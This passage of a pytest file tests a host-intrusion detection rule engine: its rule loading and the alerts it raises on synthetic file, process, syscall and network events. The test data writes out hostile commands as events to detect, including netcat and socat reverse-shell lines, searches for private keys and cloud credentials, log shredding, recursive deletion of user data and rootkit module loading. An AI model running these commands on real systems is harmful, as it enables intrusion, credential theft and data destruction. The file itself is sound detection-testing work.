"""Rule loading (lists, macros, overrides, errors), the engine, and the default rules
on synthetic batches built with c8.schema.empty."""

from __future__ import annotations

import textwrap

import pytest

from c8 import schema
from c8.detections.engine import Engine
from c8.detections.rules import (
    default_rules_path,
    expand,
    load_rules,
    load_rules_text,
)
from c8.expr import check, parse
from c8.protocol.batch import Tables

CONTAINERS = {1: ("c0ffee", "web-1", "sha256:abc", "nginx:1.25", "docker")}
# fields the default rules use that the broker's process table is to provide


def write(tmp_path, name, text):
    p = tmp_path / name
    p.write_text(textwrap.dedent(text))
    return str(p)


def batch(category, *rows):
    """A batch of one row per dict: `kind` by name, other fields as given."""
    a = schema.empty(category, len(rows))
    for i, row in enumerate(rows):
        a["sensor_monotime_nanos"][i] = 1_000_000_000 + i
        a["process_pid"][i] = 4242
        a["process_id"][i] = b"pid4242"
        for k, v in row.items():
            if k == "kind":
                v = schema.kind_code(category, v)
            a[k][i] = v.encode() if isinstance(v, str) else v
    return a


BASE = """
- list: shells
  items: [/bin/sh, /bin/bash]
- macro: is_shell
  condition: exec_filename in (shells)
- rule: Shell
  description: a shell ran
  priority: warning
  events: {process: [EXEC]}
  condition: is_shell
  output: "shell {exec_filename} pid {process_pid}"
  tags: [shell]
- rule: Tmp exec
  priority: notice
  events: {process: [EXEC]}
  condition: exec_filename like "/tmp/*"
  output: "tmp {exec_filename}"
"""


# ---- loading ---------------------------------------------------------------------------

def test_lists_and_macros_expand():
    rules, errors = load_rules_text(BASE)
    assert errors == []
    shell = rules[0]
    assert shell.expanded == '(exec_filename in ("/bin/sh", "/bin/bash"))'
    assert shell.priority == "warning" and shell.events == {"process": ("EXEC",)}
    assert shell.tags == ["shell"] and shell.enabled


def test_expand_leaves_strings_and_fields_alone():
    text = 'filename == "my_macro" and my_macro'
    assert expand(text, {"my_macro": "ret == 0"}, {}) == 'filename == "my_macro" and (ret == 0)'


def test_nested_macros_and_lists_of_lists():
    text = expand("m1", {"m1": "m2 or uid == 0", "m2": "filename in (l1)"},
                  {"l1": ["a", "l2"], "l2": ["b", 7]})
    assert text == '((filename in ("a", "b", 7)) or uid == 0)'


def test_later_file_overrides_appends_and_disables(tmp_path):
    first = write(tmp_path, "10-base.yaml", BASE)
    second = write(tmp_path, "20-local.yaml", """
        - list: shells
          items: [/bin/zsh]
          append: true
        - rule: Shell
          condition: uid != 0
          append: true
        - rule: Tmp exec
          enabled: false
        - rule: New
          priority: info
          events: [file]
          condition: filename == "/x"
          output: "x"
    """)
    rules, errors = load_rules([first, second])
    assert errors == []
    by = {r.name: r for r in rules}
    assert by["Shell"].expanded == '((exec_filename in ("/bin/sh", "/bin/bash", "/bin/zsh"))) and (uid != 0)'
    assert by["Shell"].files == [first, second]
    assert by["Tmp exec"].enabled is False
    assert by["New"].priority == "informational" and by["New"].events == {"file": None}
    # a directory loads its files in name order: same result
    rules2, _ = load_rules([str(tmp_path)])
    assert [(r.name, r.expanded, r.enabled) for r in rules2] == [(r.name, r.expanded, r.enabled) for r in rules]
    # a disabled rule is not evaluated
    assert [r.name for r in Engine(rules).rules] == ["Shell", "New"]


def test_replace_rule_without_append(tmp_path):
    first = write(tmp_path, "a.yaml", BASE)
    second = write(tmp_path, "b.yaml", """
        - rule: Shell
          priority: critical
          events: {process: [EXEC]}
          condition: exec_filename == "/bin/dash"
          output: "dash"
    """)
    rules, errors = load_rules([first, second])
    assert errors == []
    shell = next(r for r in rules if r.name == "Shell")
    assert shell.priority == "critical" and shell.expanded == 'exec_filename == "/bin/dash"'


BAD_RULES = [
    ("unknown key", """
        - rule: R
          priority: warning
          events: [process]
          condition: uid == 0
          output: x
          severity: high
     """, "unknown key(s) severity"),
    ("syntax", """
        - rule: R
          priority: warning
          events: [process]
          condition: uid == == 0
          output: x
     """, "condition: at column"),
    ("unknown macro", """
        - rule: R
          priority: warning
          events: [process]
          condition: uid == 0 and not_a_macro
          output: x
     """, "unknown macro 'not_a_macro'"),
    ("unknown field", """
        - rule: R
          priority: warning
          events: [network]
          condition: filename == "/x"
          output: x
     """, "unknown field 'filename' for network events"),
    ("unknown kind", """
        - rule: R
          priority: warning
          events: {process: [SPAWN]}
          condition: uid == 0
          output: x
     """, "unknown kind(s) SPAWN"),
    ("bad priority", """
        - rule: R
          priority: urgent
          events: [process]
          condition: uid == 0
          output: x
     """, "unknown priority 'urgent'"),
    ("missing", """
        - rule: R
          events: [process]
          condition: uid == 0
     """, "missing output, priority"),
    ("bad output field", """
        - rule: R
          priority: debug
          events: [process]
          condition: uid == 0
          output: "{no_such_field}"
     """, "output uses unknown field(s) {no_such_field}"),
    ("type error", """
        - rule: R
          priority: debug
          events: [process]
          condition: uid == "root"
          output: x
     """, "field 'uid' is a number"),
    ("macro loop", """
        - macro: a
          condition: b
        - macro: b
          condition: a
        - rule: R
          priority: debug
          events: [process]
          condition: a
          output: x
     """, "macro 'a' refers to itself"),
]


@pytest.mark.parametrize("case,text,problem", BAD_RULES, ids=[c[0] for c in BAD_RULES])
def test_bad_rule_is_named_and_others_load(tmp_path, case, text, problem):
    good = write(tmp_path, "good.yaml", BASE)
    bad = write(tmp_path, "bad.yaml", text)
    rules, errors = load_rules([good, bad])
    assert {r.name for r in rules} == {"Shell", "Tmp exec"}
    assert len(errors) == 1
    msg = str(errors[0])
    assert msg.startswith(f"{bad}: rule 'R': ") and problem in msg, msg


def test_yaml_error_names_file_and_line(tmp_path):
    good = write(tmp_path, "good.yaml", BASE)
    bad = write(tmp_path, "bad.yaml", "- rule: R\n  condition: [unclosed\n")
    rules, errors = load_rules([good, bad])
    assert len(rules) == 2
    [err] = errors
    assert err.file == bad and "YAML error at line" in err.message


def test_missing_file_and_non_list(tmp_path):
    notlist = write(tmp_path, "map.yaml", "rule: R\n")
    rules, errors = load_rules([str(tmp_path / "nope.yaml"), notlist])
    assert rules == []
    assert "cannot read" in str(errors[0]) and "must be a list" in str(errors[1])


def test_append_to_unknown_rule_is_an_error():
    _, errors = load_rules_text("- rule: Ghost\n  condition: uid == 0\n  append: true\n")
    assert "no earlier rule" in str(errors[0])


# ---- engine ----------------------------------------------------------------------------

def test_subscription_spec_is_union_with_kinds():
    rules, _ = load_rules_text(BASE + """
- rule: Net
  priority: notice
  events: {network: [LISTEN_RESULT]}
  condition: ret == 0
  output: listen
""")
    spec = Engine(rules).subscription_spec()
    assert set(spec["events"]) == {"process", "network"}
    for category, sub in spec["events"].items():
        if sub.get("filter"):
            check(parse(sub["filter"]), category)          # the broker will accept it
    proc = spec["events"]["process"]["filter"]
    assert "/bin/bash" in proc and '/tmp/*' in proc and 'kind == "EXEC"' in proc
    assert spec["events"]["network"]["filter"] == 'kind in ("LISTEN_RESULT") and (ret == 0)'


def test_evaluate_makes_alerts_with_identity():
    rules, _ = load_rules_text(BASE)
    eng = Engine(rules)
    b = batch("process",
              {"kind": "EXEC", "exec_filename": "/bin/sh", "exec_command_line": "sh -c id", "container": 1},
              {"kind": "EXEC", "exec_filename": "/usr/bin/ls"},
              {"kind": "FORK", "exec_filename": "/bin/sh"})        # not an EXEC: no match
    [alert] = eng.evaluate("process", b, CONTAINERS)
    assert alert.rule == "Shell" and alert.priority == "warning"
    assert alert.output == "shell /bin/sh pid 4242"
    assert alert.time_nanos == 1_000_000_000 and alert.time.endswith("Z")
    assert alert.event["exec_filename"] == "/bin/sh" and alert.event["kind"] == "EXEC"
    assert alert.process == {"pid": 4242, "tid": 0, "process_id": "pid4242",
                             "exec_filename": "/bin/sh", "command_line": "sh -c id"}
    assert alert.container == {"container_id": "c0ffee", "container_name": "web-1",
                               "image_id": "sha256:abc", "image_name": "nginx:1.25"}
    assert alert.to_dict()["type"] == "alert"
    assert eng.matches["Shell"] == 1


def test_process_identity_from_exec_cache_and_flush():
    rules, _ = load_rules_text("""
- rule: Open x
  priority: notice
  events: {file: [OPEN]}
  condition: filename == "/x"
  output: "{filename} by {process_exec_filename}"
""")
    eng = Engine(rules)
    eng.evaluate("process", batch("process", {"kind": "EXEC", "exec_filename": "/usr/bin/cat",
                                              "exec_command_line": "cat /x"}), {})
    [a] = eng.evaluate("file", batch("file", {"kind": "OPEN", "filename": "/x"}), {})
    assert a.process["exec_filename"] == "/usr/bin/cat" and a.output == "/x by /usr/bin/cat"
    eng.flush()
    [a] = eng.evaluate("file", batch("file", {"kind": "OPEN", "filename": "/x"}), {})
    assert a.process["exec_filename"] is None and a.output == "/x by <NA>"


def test_exec_cache_is_bounded():
    eng = Engine([], cache_size=3)
    rows = [{"kind": "EXEC", "exec_filename": f"/bin/p{i}"} for i in range(5)]
    b = batch("process", *rows)
    b["process_id"] = [f"id{i}".encode() for i in range(5)]
    eng.evaluate("process", b, {})
    assert list(eng.processes) == [b"id2", b"id3", b"id4"]


# ---- the default rules -------------------------------------------------------------------

O_RDONLY, O_WRONLY, O_RDWR, O_CREAT, O_TRUNC, O_CLOEXEC = 0, 1, 2, 0x40, 0x200, 0x80000

# rule -> (category, events that must match, benign events that must not)
CASES = {
    "Read sensitive file": ("file", [
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_RDONLY | O_CLOEXEC},
        {"kind": "OPEN", "filename": "/etc/sudoers", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/etc/gshadow", "open_flags": O_RDWR},
        {"kind": "OPEN", "filename": "/etc/ssh/ssh_host_ed25519_key", "open_flags": O_RDONLY},
        # the kernel's resolution decides, not the name as passed
        {"kind": "OPEN", "filename": "/etc/../etc/../etc/shadow", "path": "/etc/shadow", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "shadow", "path": "/etc/shadow", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/home/u/.ssh/id_ed25519", "open_flags": O_RDONLY},
        # a relative name of an exited process: path unknown, its last component decides
        {"kind": "OPEN", "filename": "../etc/shadow", "path": "", "open_flags": O_RDONLY},
        # a program named like an exception, elsewhere
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_RDONLY,
         "process_exec_filename": "/tmp/useradd"},
    ], [
        {"kind": "OPEN", "filename": "/etc/passwd", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/etc/ssh/ssh_host_ed25519_key.pub", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_WRONLY | O_TRUNC},
        {"kind": "DELETE", "filename": "/etc/shadow"},
        {"kind": "OPEN", "filename": "/home/u/.ssh/id_ed25519.pub", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "shadow", "path": "/home/u/shadow", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_RDONLY,
         "process_exec_filename": "/usr/sbin/useradd"},
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_RDONLY,
         "process_exec_filename": "/usr/sbin/unix_chkpwd"},
    ]),
    "Write below system directory": ("file", [
        {"kind": "OPEN", "filename": "/etc/passwd", "open_flags": O_WRONLY | O_CREAT | O_TRUNC},
        {"kind": "OPEN", "filename": "/usr/bin/ls", "open_flags": O_RDWR | O_CLOEXEC},
        # touch(1): O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK, a word the old flag lists lacked
        {"kind": "OPEN", "filename": "/etc/c8-x", "open_flags": 0x941},
        {"kind": "CREATE", "filename": "/usr/local/bin/miner"},
        {"kind": "DELETE", "filename": "/sbin/auditd"},
        {"kind": "RENAME", "oldname": "/tmp/x", "newname": "/bin/ls", "filename": "/bin/ls"},
        {"kind": "OPEN", "filename": "cron.d/evil", "path": "/etc/cron.d/evil", "open_flags": O_WRONLY | O_CREAT},
        {"kind": "OPEN", "filename": "etc/cron.d/evil", "path": "", "open_flags": O_WRONLY | O_CREAT},
        {"kind": "OPEN", "filename": "passwd", "path": "", "open_flags": O_WRONLY | 0x400},
        {"kind": "RENAME", "oldname": "x", "newname": "./ld.so.preload", "filename": "./ld.so.preload",
         "path": "", "oldpath": ""},
        # an account tool writing outside the account files, another program on them
        {"kind": "OPEN", "filename": "/etc/ld.so.preload", "open_flags": O_WRONLY | O_CREAT,
         "process_exec_filename": "/usr/sbin/useradd"},
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_WRONLY,
         "process_exec_filename": "/usr/bin/python3"},
        {"kind": "RENAME", "oldname": "/tmp/shadow", "newname": "/etc/shadow", "filename": "/etc/shadow",
         "process_exec_filename": "/usr/sbin/useradd"},
    ], [
        {"kind": "OPEN", "filename": "/etc/passwd", "open_flags": O_RDONLY | O_CLOEXEC},
        {"kind": "CREATE", "filename": "/home/u/notes"},
        {"kind": "RENAME", "oldname": "/tmp/a", "newname": "/tmp/b", "filename": "/tmp/b"},
        {"kind": "OPEN", "filename": "/var/log/x", "open_flags": O_WRONLY},
        {"kind": "OPEN", "filename": "notes.txt", "path": "", "open_flags": O_WRONLY | O_CREAT},
        {"kind": "OPEN", "filename": "/etc/shadow+", "open_flags": O_WRONLY | O_CREAT,
         "process_exec_filename": "/usr/sbin/useradd"},
        {"kind": "DELETE", "filename": "/etc/passwd.lock", "process_exec_filename": "/usr/sbin/userdel"},
        {"kind": "RENAME", "oldname": "/etc/gshadow+", "newname": "/etc/gshadow", "filename": "/etc/gshadow",
         "process_exec_filename": "/usr/sbin/useradd"},
        {"kind": "OPEN", "filename": "/etc/.pwd.lock", "open_flags": O_WRONLY | O_CREAT,
         "process_exec_filename": "/usr/sbin/usermod"},
    ]),
    "User account management": ("process", [
        {"kind": "EXEC", "exec_filename": "/usr/sbin/useradd", "exec_command_line": "useradd bob"},
        {"kind": "EXEC", "exec_filename": "/sbin/userdel", "exec_command_line": "userdel bob"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/passwd", "exec_command_line": "passwd root"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/id", "exec_command_line": "id bob"},
        {"kind": "EXEC", "exec_filename": "/tmp/x/useradd-notes", "exec_command_line": "useradd"},
    ]),
    "Link to sensitive file": ("file", [
        {"kind": "LINK", "oldname": "/etc/shadow", "newname": "/tmp/s", "filename": "/tmp/s"},
        {"kind": "SYMLINK", "oldname": "../../etc/shadow", "oldpath": "/etc/shadow",
         "newname": "/tmp/x/s", "filename": "/tmp/x/s"},
        {"kind": "LINK", "oldname": "shadow", "oldpath": "", "newname": "/tmp/s", "filename": "/tmp/s"},
        {"kind": "SYMLINK", "oldname": "/root/.ssh/id_rsa", "newname": "/tmp/k", "filename": "/tmp/k"},
    ], [
        {"kind": "LINK", "oldname": "/etc/passwd", "newname": "/tmp/p", "filename": "/tmp/p"},
        {"kind": "SYMLINK", "oldname": "/root/.ssh/id_rsa.pub", "newname": "/tmp/k", "filename": "/tmp/k"},
        {"kind": "RENAME", "oldname": "/etc/shadow", "newname": "/tmp/s", "filename": "/tmp/s"},
        {"kind": "SYMLINK", "oldname": "shadow", "oldpath": "/tmp/shadow", "newname": "/tmp/s",
         "filename": "/tmp/s"},
    ]),
    "Secure deletion of files": ("process", [
        {"kind": "EXEC", "exec_filename": "/usr/bin/shred", "exec_command_line": "shred -u /var/log/auth.log"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/srm", "exec_command_line": "srm -r /home/u"},
        {"kind": "EXEC", "exec_filename": "/bin/busybox", "exec_command_line": "busybox shred x"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/rm", "exec_command_line": "rm -f shred.txt"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/shredder-report", "exec_command_line": "shredder-report"},
    ]),
    "Search for private keys or credentials": ("process", [
        {"kind": "EXEC", "exec_filename": "/usr/bin/find", "exec_command_line": "find / -name id_rsa"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/grep",
         "exec_command_line": "grep -rl BEGIN RSA PRIVATE KEY /home"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/find", "exec_command_line": "find /srv -name *.pem"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/locate", "exec_command_line": "locate .aws/credentials"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/find", "exec_command_line": "find /tmp -name *.log"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/cat", "exec_command_line": "cat /root/.ssh/id_rsa.pub"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/grep", "exec_command_line": "grep -r TODO src"},
    ]),
    "Set-user-ID or set-group-ID bit set": ("file", [
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/tmp/x/sh", "open_mode": 0o4755, "ret": 0},
        {"kind": "ATTRIBUTE_CHANGE", "filename": "", "path": "/opt/tool", "open_mode": 0o2755, "ret": 0},
    ], [
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/tmp/x/sh", "open_mode": 0o755, "ret": 0},
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/tmp/x/sh", "open_mode": 0o4755, "ret": -1},
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/usr/bin/passwd", "open_mode": 0o4755, "ret": 0,
         "process_exec_filename": "/usr/bin/dpkg"},
        {"kind": "CREATE", "filename": "/tmp/d", "open_mode": 0o2775, "ret": 0},
    ]),
    "Sensitive file permissions changed": ("file", [
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/etc/shadow", "open_mode": 0o644},
        {"kind": "ATTRIBUTE_CHANGE", "filename": "", "path": "/etc/sudoers", "owner_uid": 1000},
        {"kind": "ATTRIBUTE_CHANGE", "filename": "shadow", "path": "", "open_mode": 0o666},
    ], [
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/etc/passwd", "open_mode": 0o644},
        {"kind": "ATTRIBUTE_CHANGE", "filename": "/etc/shadow+", "open_mode": 0o640,
         "process_exec_filename": "/usr/sbin/useradd"},
        {"kind": "OPEN", "filename": "/etc/shadow", "open_flags": O_RDONLY},
    ]),
    "Dynamic linker preload modified": ("file", [
        {"kind": "OPEN", "filename": "/etc/ld.so.preload", "open_flags": O_WRONLY | O_CREAT | O_TRUNC},
        {"kind": "OPEN", "filename": "ld.so.preload", "path": "/etc/ld.so.preload", "open_flags": O_WRONLY},
        {"kind": "RENAME", "oldname": "/tmp/p", "newname": "/etc/ld.so.preload", "filename": "/etc/ld.so.preload"},
        {"kind": "OPEN", "filename": "../etc/ld.so.preload", "path": "", "open_flags": O_RDWR},
    ], [
        {"kind": "OPEN", "filename": "/etc/ld.so.preload", "open_flags": O_RDONLY | O_CLOEXEC},
        {"kind": "OPEN", "filename": "/etc/ld.so.cache", "open_flags": O_WRONLY},
        {"kind": "DELETE", "filename": "/etc/ld.so.preload"},
    ]),
    "SSH authorized_keys modified": ("file", [
        {"kind": "OPEN", "filename": "/root/.ssh/authorized_keys", "open_flags": O_WRONLY | O_CREAT | 0x400},
        {"kind": "RENAME", "oldname": "/tmp/k", "newname": "/home/u/.ssh/authorized_keys2",
         "filename": "/home/u/.ssh/authorized_keys2"},
        {"kind": "OPEN", "filename": ".ssh/authorized_keys", "path": "", "open_flags": O_WRONLY},
    ], [
        {"kind": "OPEN", "filename": "/root/.ssh/authorized_keys", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/root/.ssh/known_hosts", "open_flags": O_WRONLY},
    ]),
    "Cron job scheduled": ("file", [
        {"kind": "OPEN", "filename": "/etc/cron.d/evil", "open_flags": O_WRONLY | O_CREAT},
        {"kind": "OPEN", "filename": "/etc/crontab", "open_flags": O_WRONLY | 0x400},
        {"kind": "RENAME", "oldname": "crontabs/tmp.X", "newname": "crontabs/root",
         "filename": "crontabs/root", "path": "/var/spool/cron/crontabs/root",
         "oldpath": "/var/spool/cron/crontabs/tmp.X"},
        {"kind": "OPEN", "filename": "cron.d/evil", "path": "", "open_flags": O_WRONLY | O_CREAT},
    ], [
        {"kind": "OPEN", "filename": "/etc/crontab", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/etc/cron.daily/logrotate", "open_flags": O_RDONLY | O_CLOEXEC},
    ]),
    "Log file truncated or deleted": ("file", [
        {"kind": "OPEN", "filename": "/var/log/auth.log", "open_flags": O_WRONLY | O_TRUNC},
        {"kind": "DELETE", "filename": "/var/log/wtmp"},
        {"kind": "RENAME", "oldname": "/var/log/syslog", "newname": "/tmp/s", "filename": "/tmp/s"},
    ], [
        {"kind": "OPEN", "filename": "/var/log/auth.log", "open_flags": O_WRONLY | 0x400},
        {"kind": "OPEN", "filename": "/var/log/syslog", "open_flags": O_WRONLY | O_TRUNC,
         "process_exec_filename": "/usr/sbin/logrotate"},
        {"kind": "RENAME", "oldname": "/var/log/syslog", "newname": "/var/log/syslog.1",
         "filename": "/var/log/syslog.1"},
        {"kind": "OPEN", "filename": "/tmp/x.log", "open_flags": O_WRONLY | O_TRUNC},
    ]),
    "Shell history deleted or truncated": ("file", [
        {"kind": "DELETE", "filename": "/root/.bash_history"},
        {"kind": "OPEN", "filename": "/home/u/.zsh_history", "open_flags": O_WRONLY | O_TRUNC},
        {"kind": "SYMLINK", "oldname": "/dev/null", "newname": "/root/.bash_history",
         "filename": "/root/.bash_history"},
        {"kind": "DELETE", "filename": ".bash_history", "path": ""},
    ], [
        {"kind": "OPEN", "filename": "/root/.bash_history", "open_flags": O_WRONLY | 0x400},
        {"kind": "OPEN", "filename": "/root/.bash_history", "open_flags": O_RDONLY},
        {"kind": "DELETE", "filename": "/root/history.txt"},
    ]),
    "Kernel module load": ("syscall", [
        {"kind": "ENTER", "id": 313, "arg0": 3},
        {"kind": "ENTER", "id": 175},
    ], [
        {"kind": "ENTER", "id": 176},
        {"kind": "EXIT", "id": 313, "ret": 0},
    ]),
    "Shell spawned by server": ("process", [
        {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/sbin/nginx"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/bash", "parent_exec_filename": "/usr/lib/postgresql/16/bin/postgres"},
        {"kind": "EXEC", "exec_filename": "/bin/busybox", "exec_command_line": "busybox sh -c id",
         "parent_exec_filename": "/usr/bin/node"},
        {"kind": "EXEC", "exec_filename": "/bin/dash", "parent_exec_filename": "/opt/app/php-fpm8.2"},
    ], [
        {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/sbin/sshd"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/ls", "parent_exec_filename": "/usr/sbin/nginx"},
        {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/bin/python3"},
    ]),
    "Execution from temporary directory": ("process", [
        {"kind": "EXEC", "exec_filename": "/tmp/x"},
        {"kind": "EXEC", "exec_filename": "/var/tmp/.hidden/y"},
        {"kind": "EXEC", "exec_filename": "/dev/shm/z"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/tmpwatch"},
        {"kind": "FORK", "exec_filename": "/tmp/x"},
    ]),
    "Fileless execution": ("process", [
        {"kind": "EXEC", "exec_filename": "/memfd:payload (deleted)"},
        {"kind": "EXEC", "exec_filename": "/proc/self/fd/3"},
        {"kind": "EXEC", "exec_filename": "/dev/fd/4"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/python3"},
    ]),
    "Ptrace attach": ("syscall", [
        {"kind": "ENTER", "id": 101, "arg0": 16, "arg1": 1},
        {"kind": "ENTER", "id": 101, "arg0": 0x4206, "arg1": 1},
    ], [
        {"kind": "ENTER", "id": 101, "arg0": 0},          # PTRACE_TRACEME
        {"kind": "ENTER", "id": 0, "arg0": 16},
        {"kind": "EXIT", "id": 101, "ret": 0},
    ]),
    "New listening socket": ("network", [
        {"kind": "LISTEN_RESULT", "ret": 0, "fd": 3},
    ], [
        {"kind": "LISTEN_RESULT", "ret": -98},
        {"kind": "LISTEN_ATTEMPT", "ret": 0},
        {"kind": "CONNECT_RESULT", "ret": 0},
    ]),
    "Shell or package manager in container": ("process", [
        {"kind": "EXEC", "exec_filename": "/bin/sh", "container": 1},
        {"kind": "EXEC", "exec_filename": "/usr/bin/apt-get", "container": 1},
        {"kind": "EXEC", "exec_filename": "/sbin/apk", "container": 1},
    ], [
        {"kind": "EXEC", "exec_filename": "/bin/sh", "container": 0},
        {"kind": "EXEC", "exec_filename": "/usr/bin/python3", "container": 1},
    ]),
    "Unexpected outbound connection": ("network", [
        {"kind": "CONNECT_ATTEMPT", "family": 2, "address": "203.0.113.9", "port": 443,
         "process_exec_filename": "/usr/bin/cat"},
        {"kind": "CONNECT_ATTEMPT", "family": 10, "address": "2001:db8::1", "port": 80,
         "process_exec_filename": "/bin/tar"},
    ], [
        {"kind": "CONNECT_ATTEMPT", "family": 2, "process_exec_filename": "/usr/bin/curl"},
        {"kind": "CONNECT_ATTEMPT", "family": 1, "address": "/run/nscd/socket",
         "process_exec_filename": "/usr/bin/ls"},
    ]),
    "Namespace or mount change in container": ("syscall", [
        {"kind": "ENTER", "id": 272, "container": 1, "parent_exec_filename": "/bin/sh"},   # unshare
        {"kind": "ENTER", "id": 165, "container": 1, "parent_exec_filename": "/bin/sh"},   # mount
        {"kind": "ENTER", "id": 308, "container": 1, "parent_exec_filename": "/bin/sh"},   # setns
    ], [
        {"kind": "ENTER", "id": 272, "parent_exec_filename": "/bin/sh"},                   # on the host
        {"kind": "ENTER", "id": 0, "container": 1, "parent_exec_filename": "/bin/sh"},
        {"kind": "ENTER", "id": 165, "container": 1, "parent_exec_filename": "/usr/sbin/runc"},
        {"kind": "ENTER", "id": 165, "container": 1},                                    # parent unknown
    ]),
    "Container runtime socket opened in container": ("file", [
        {"kind": "OPEN", "filename": "/var/run/docker.sock", "path": "/run/docker.sock", "container": 1},
        {"kind": "OPEN", "filename": "/run/containerd/containerd.sock", "container": 1},
    ], [
        {"kind": "OPEN", "filename": "/var/run/docker.sock"},   # on the host
        {"kind": "OPEN", "filename": "/etc/hostname", "container": 1},
    ]),
    "Container runtime socket connected in container": ("network", [
        {"kind": "CONNECT_ATTEMPT", "family": 1, "address": "/var/run/docker.sock", "container": 1},
    ], [
        {"kind": "CONNECT_ATTEMPT", "family": 1, "address": "/var/run/docker.sock"},
        {"kind": "CONNECT_ATTEMPT", "family": 1, "address": "/run/nscd/socket", "container": 1},
    ]),
    "Shell connecting to the network": ("network", [
        {"kind": "CONNECT_ATTEMPT", "family": 2, "address": "203.0.113.9", "port": 4444,
         "process_exec_filename": "/usr/bin/bash"},
    ], [
        {"kind": "CONNECT_ATTEMPT", "family": 2, "process_exec_filename": "/usr/bin/curl"},
        {"kind": "CONNECT_ATTEMPT", "family": 1, "address": "/run/nscd/socket",
         "process_exec_filename": "/bin/bash"},
    ]),
    "Reverse shell by a network tool": ("process", [
        {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/bin/nc.openbsd"},
        {"kind": "EXEC", "exec_filename": "/bin/bash", "parent_exec_filename": "/usr/bin/socat"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/nc", "exec_command_line": "nc 10.0.0.1 4444 -e /bin/sh"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/socat",
         "exec_command_line": "socat tcp:10.0.0.1:4444 exec:sh,pty,stderr"},
    ], [
        {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/sbin/cron"},
        {"kind": "EXEC", "exec_filename": "/bin/ls", "parent_exec_filename": "/usr/bin/ncat"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/nc", "exec_command_line": "nc -z 10.0.0.1 22"},
    ]),
    "Network tool run": ("process", [
        {"kind": "EXEC", "exec_filename": "/usr/bin/ncat"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/nmap", "exec_command_line": "nmap -sS 10.0.0.0/24"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/curl"},
    ]),
    "Recursive deletion of system or user data": ("process", [
        {"kind": "EXEC", "exec_filename": "/bin/rm", "exec_command_line": "rm -rf /home/alice"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/rm", "exec_command_line": "rm --recursive /var/lib/mysql"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/find", "exec_command_line": "find / -name *.db -delete"},
    ], [
        {"kind": "EXEC", "exec_filename": "/bin/rm", "exec_command_line": "rm -f /home/alice/notes"},
        {"kind": "EXEC", "exec_filename": "/bin/rm", "exec_command_line": "rm -rf /tmp/build-1"},
        {"kind": "EXEC", "exec_filename": "/usr/bin/find", "exec_command_line": "find /srv -name x"},
    ]),
    "Kernel module tool run": ("process", [
        {"kind": "EXEC", "exec_filename": "/usr/sbin/insmod", "exec_command_line": "insmod ./rk.ko"},
        {"kind": "EXEC", "exec_filename": "/sbin/modprobe", "exec_command_line": "modprobe evil"},
    ], [
        {"kind": "EXEC", "exec_filename": "/sbin/modprobe", "exec_command_line": "modprobe -r evil"},
        {"kind": "EXEC", "exec_filename": "/sbin/lsmod"},
        {"kind": "EXEC", "exec_filename": "/sbin/modprobe", "exec_command_line": "modprobe snd",
         "parent_exec_filename": "/usr/lib/systemd/systemd-udevd"},       # an exception
    ]),
    "Program run from memory": ("process", [
        {"kind": "EXEC", "exec_filename": "/dev/fd/3", "exec_command_line": "payload --beacon"},
        {"kind": "EXEC", "exec_filename": "/proc/self/fd/4", "exec_command_line": "x"},
    ], [
        {"kind": "EXEC", "exec_filename": "/usr/bin/fd", "exec_command_line": "fd /dev/fd/3"},
        {"kind": "EXEC", "exec_filename": "/dev/fd/6", "exec_command_line": "runc init"},  # an exception
    ]),
    "Process memory read": ("file", [
        {"kind": "OPEN", "filename": "/proc/1234/mem", "open_flags": O_RDONLY},
    ], [
        {"kind": "OPEN", "filename": "/proc/1234/status", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/proc/self/mem", "open_flags": O_RDONLY},
        {"kind": "OPEN", "filename": "/proc/1234/mem", "open_flags": O_RDONLY,
         "process_exec_filename": "/usr/bin/gdb"},                          # an exception
    ]),
